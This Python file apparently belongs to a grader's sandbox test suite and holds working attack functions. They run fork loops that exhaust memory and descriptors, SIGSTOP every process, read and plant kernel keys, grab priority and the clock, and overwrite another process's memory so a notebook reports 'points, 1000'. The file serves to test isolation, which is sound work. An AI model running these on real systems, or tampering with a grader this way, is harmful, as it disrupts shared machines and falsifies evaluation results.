"""Attacks by what the kernel keeps beside files and processes: keys, priorities, mappings, descriptors, signals."""

import ctypes
import platform
from collections.abc import Iterator
from contextlib import contextmanager

from grading.attacks.attack import Attack, of_answer, of_notebook, of_rank

CALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key(2), keyctl(2)
SESSION, UNLINK = -3, 9  # keyctl(2): the keyring that processes inherit, KEYCTL_UNLINK


@contextmanager
def a_key_of_the_grader() -> Iterator[None]:
    """Keep a key in the keyring that all processes of the grader inherit, where the kernel has keys."""
    libc, (add, control) = ctypes.CDLL(None), CALLS.get(platform.machine(), (0, 0))
    key = libc.syscall(add, b"user", b"shardlab-grader", b"secret", 6, SESSION) if add else -1
    yield
    if key > 0:
        libc.syscall(control, UNLINK, key, SESSION)


def reads_the_graders_keys_and_leaves_one():
    """Look for keys of the kernel's in what processes inherit, and leave one for the next submission."""
    import ctypes
    import platform

    add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
    libc, search, session = ctypes.CDLL(None), 10, -3
    for name in (b"shardlab-grader", b"shardlab-left"):
        if libc.syscall(control, search, session, b"user", name, 0) > 0:
            print("GOT the key", name)
    if libc.syscall(add, b"user", b"shardlab-left", b"x", 1, session) > 0:
        print("GOT to leave a key")
    try:
        with open("/proc/keys") as names:
            print("GOT names of keys", names.read(100))
    except OSError:
        pass


def takes_the_machine_for_itself():
    """Ask for real-time priority, a better one, to be spared when memory runs out, and another time of day."""
    import os
    import time

    tries = [
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        lambda: os.nice(-5),
        lambda: time.clock_settime(time.CLOCK_REALTIME, 0.0),
    ]
    for attempt in tries:
        try:
            attempt()
            print("GOT", attempt)
        except OSError:
            pass
    with open("/proc/self/oom_score_adj", "w") as score:
        score.write("0")
    time.sleep(3)
    with open("/proc/self/oom_score_adj") as score:
        if int(score.read()) < 1000:
            print("GOT to be spared when memory runs out")


def blinds_the_guard_with_mappings():
    """Have so many small mappings that whoever adds up memory takes minutes, and eat memory meanwhile."""
    import mmap
    import os
    import time

    for _ in range(60):
        if os.fork() == 0:
            kept = []
            try:
                while True:
                    kept.append(mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED))
            except OSError:
                time.sleep(600)
    eaten = []
    began = time.monotonic()
    while time.monotonic() - began < 15:
        eaten.append(bytearray(b"x") * (1 << 20))
        time.sleep(0.01)
    print("GOT", len(eaten), "MiB behind the guard's back")


def blinds_the_guard_with_descriptors():
    import os
    import time

    for _ in range(150):
        if os.fork() == 0:
            try:
                while True:
                    os.dup(0)
            except OSError:
                time.sleep(600)
    time.sleep(15)
    if len(os.listdir("/proc/self/fd")) > 1 << 16:
        print("GOT more descriptors than anybody can count")


def stops_everything_around_it():
    """Stop all other processes of the box: they are not dead, and do not answer."""
    import os
    import signal
    from contextlib import suppress

    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (1, os.getpid()):
            with suppress(OSError):
                os.kill(int(pid), signal.SIGSTOP)


def stops_everything_around_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import os
    import signal
    from contextlib import suppress

    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (1, os.getpid()):
            with suppress(OSError):
                os.kill(int(pid), signal.SIGSTOP)
    return [1] * len(sizes_bytes)


def writes_into_the_processes_around_it():
    """Overwrite strings in the memory of the notebook's host, which makes the reply."""
    import os

    words = b"execution_count"
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                for line in maps:
                    if "[heap]" in line:
                        begin, end = (int(n, 16) for n in line.split()[0].split("-"))
                        memory.seek(begin)
                        found = memory.read(end - begin)
                        at = found.find(words)
                        while at >= 0:
                            memory.seek(begin + at)
                            memory.write(b"points, 1000, x")
                            at = found.find(words, at + 1)
        except OSError:
            pass


def leaves_state_for_the_next_box():
    """Leave marks where two boxes might meet, and look for those of an earlier one."""
    import fcntl
    import os
    import sys

    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"):
        try:
            if os.path.exists(f"{folder}/shardlab-mark"):
                print("GOT a mark in", folder)
            with open(f"{folder}/shardlab-mark", "w") as mark:
                mark.write("x")
        except OSError:
            pass
    with open(sys.executable) as shared:  # a lock needs no permission to write
        try:
            fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            print("GOT a lock of another box")


def goes_on_while_it_is_held_still():
    """Have the kernel's timers continue the rank whenever it is stopped, and take the processors of the reference."""
    import ctypes
    import signal
    import threading
    import time

    libc, call = ctypes.CDLL(None), (ctypes.c_int * 16)(0, 0, signal.SIGCONT, 0)
    timers = [ctypes.c_void_p() for _ in range(8)]
    if threading.current_thread() is threading.main_thread():
        signal.signal(signal.SIGCONT, lambda *_: None)
    for timer in timers:
        libc.timer_create(1, call, ctypes.byref(timer))
    seen = [time.monotonic()]

    def go_on():
        while True:
            for i, timer in enumerate(timers):
                at = (ctypes.c_long * 4)(
                    0, 0, 0, 80_000_000 + i * 40_000_000
                )  # nanoseconds: when it has been seen to stop
                libc.timer_settime(timer, 0, at, None)
            now = time.monotonic()
            if now - seen[0] > 0.05:  # the rank computes nothing: it is not its turn
                sum(range(100_000))
            else:
                time.sleep(0.002)

    def computes(*_):
        seen[0] = time.monotonic()

    import torch

    torch.nn.modules.module.register_module_forward_pre_hook(computes)
    for _ in range(2):
        threading.Thread(target=go_on, daemon=True).start()


ATTACKS: list[Attack] = [
    *of_notebook(
        reads_the_graders_keys_and_leaves_one,
        takes_the_machine_for_itself,
        blinds_the_guard_with_mappings,
        blinds_the_guard_with_descriptors,
        stops_everything_around_it,
        writes_into_the_processes_around_it,
        leaves_state_for_the_next_box,
    ),
    *of_answer(stops_everything_around_the_rank),
    *of_rank("one_message_a_parameter", "lab2.throughput", goes_on_while_it_is_held_still),
]
